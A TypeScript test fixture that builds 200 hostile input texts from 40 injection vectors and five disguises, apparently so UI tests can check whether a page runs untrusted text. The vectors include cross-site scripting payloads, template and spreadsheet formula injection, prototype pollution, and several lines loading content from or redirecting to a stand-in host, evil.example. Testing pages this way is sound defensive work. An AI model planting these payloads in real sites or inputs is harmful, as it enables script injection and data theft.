/**
 * Texts that would run, load or break something on a page that trusts them: 40 vectors in five disguises. Each of them sets `window.ran`, calls a
 * dialog or reaches for another host, so that a journey can detect it.
 */
const vectors = [
  '<script>ran=1</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=ran=1>',
  '<svg onload=ran=1>',
  '<svg><script>ran=1</script></svg>',
  '<body onload=ran=1>',
  '<iframe src=javascript:ran=1>',
  '<iframe srcdoc="<script>parent.ran=1</script>">',
  '<a href=javascript:ran=1>x</a>',
  'javascript:ran=1',
  'JaVaScRiPt:void(ran=1)',
  'data:text/html,<script>ran=1</script>',
  'vbscript:ran=1',
  '"><script>ran=1</script>',
  "'><img src=x onerror=ran=1>",
  '" onfocus=ran=1 autofocus x="',
  "' onmouseover=ran=1 x='",
  '</title><script>ran=1</script>',
  '</textarea><script>ran=1</script>',
  '</style><script>ran=1</script>',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content=0;url=//evil.example>',
  '<base href=//evil.example/>',
  '<object data=//evil.example/x.swf>',
  '<embed src=//evil.example/x>',
  '<form action=//evil.example><button>',
  '<input autofocus onfocus=ran=1>',
  '<details open ontoggle=ran=1>',
  '<video><source onerror=ran=1>',
  '<math><mi xlink:href=javascript:ran=1>',
  '<marquee onstart=ran=1>',
  '{{constructor.constructor("ran=1")()}}',
  '${alert(ran)}',
  '#{7*7}<%= ran=1 %>',
  '--><script>ran=1</script>',
  ']]><script>ran=1</script>',
  '=cmd|"/c calc"!A1',
  '__proto__[ran]=1',
  '\u202E<gpj.exe>\u202D onerror=ran=1',
] as const;

const disguises: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `; ${vector.toUpperCase().replaceAll('RAN=1', 'ran=1')}`,
  (vector) => `مرحبا ${vector}`,
  (vector) => `👩‍👩‍👧‍👦${vector}`,
  // One unbroken word: the layout must break it or cut it.
  (vector) => vector.replaceAll(' ', '/').padEnd(64, 'W'),
];

/** 200 texts of at most 64 characters, the length of the shortest fields. */
export const hostileTexts: readonly string[] = disguises.flatMap((disguise) =>
  vectors.map((vector) => Array.from(disguise(vector)).slice(0, 64).join('').slice(0, 64)),
);
